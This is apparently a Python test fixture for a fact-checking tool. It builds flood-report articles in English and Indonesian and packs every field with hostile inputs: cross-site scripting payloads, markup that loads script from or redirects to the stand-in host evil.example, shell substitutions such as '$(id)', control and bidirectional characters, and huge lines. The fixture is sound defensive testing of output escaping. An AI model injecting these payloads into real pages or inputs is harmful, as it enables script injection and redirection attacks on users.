"""A hundred and two articles that want to be more than text: markup, entities, control characters, endless lines."""

from __future__ import annotations

from collections.abc import Iterator

from factcheck.records import Article

SIGNS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "</style></title></textarea></mark><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><animate onbegin=alert(1)></svg>",
    "</svg></text><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "\" onmouseover='alert(1)' style=\"position:fixed",
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp; &#x202e;",
    "<!-- --!> ]]> <![CDATA[ <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input type=submit formaction=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "}body{display:none}</style><script>alert(1)</script>",
    "a\u202eb\u2066c\u2069d\u200fe\u061cf",
    "a\x00b\x01c\x1b[2J\x9bd\x7fe\x85f\u2028g\u2029h\ufeffi",
    "\ud800 \udfff \ufffe \uffff \U0010ffff",
    "{count} {0} %s %(name)s ${x} `id` $(id)",
    "\r\r\n\n\x0b\x0c\x1c\x1d\x1e",
    "Z\u0351\u036b\u0343\u0353" * 40,
    "عدد القتلى ١٢ שלום",
    "</option></select><option value=k0 selected>",
    "#f1\"><a href='#f2'>",
    "😀👩‍👩‍👧‍👦🇮🇩" * 20,
)
"""Every one of them goes into every place that an article has."""
_LINE = 5_000_000
_PLACES = 4


def hostile_articles(line: int = _LINE) -> list[Article]:
    """Articles that contradict each other, so that what they smuggle gets into every part of the page.

    Args:
        line: Characters of the longest lines; two articles have one.
    """
    return [*_signs(), *_lines(line)]


def _signs() -> Iterator[Article]:
    for number, sign in enumerate(SIGNS):
        day = f"2024-05-{number % 9 + 1:02}"
        for place in range(_PLACES):
            dead = 400 + 7 * number + place
            yield Article(
                id=f"{sign}-{number}-{place}",
                text=_TEXTS[place].replace("SIGN", sign).replace("DEAD", str(dead)),
                source=sign if place else None,
                title=sign,
                url=sign,
                published=day if place < _PLACES - 1 else None,
                language="id" if place % 2 else "en",
            )


_TEXTS = (
    "SIGN\nThe flood in Tarum killed DEAD people, the port ministry of SIGN said on Monday. SIGN Reuters reported.",
    "Banjir di Tarum\nDilansir SIGN, banjir di Tarum menewaskan DEAD orang, kata SIGN. SIGN\n\n12 SIGN 13.",
    'SIGN\n"We counted DEAD SIGN boats in the harbour that night," SIGN said Ilma Darsono. DEAD people were killed.',
    'Kata SIGN, "Kami melihat DEAD SIGN perahu di pelabuhan pada malam itu." Sedikitnya DEAD orang tewas. SIGN',
)


def _lines(line: int) -> Iterator[Article]:
    told = "The flood in Tarum killed 431 people, the port ministry said on Monday. "
    for number, unit in enumerate(("a", "<b>")):
        text = told + unit * (line // len(unit)) + f" {told}"
        yield Article(id=f"line-{number}", text=text, source=f"Line {number}", published="2024-05-08", language="en")
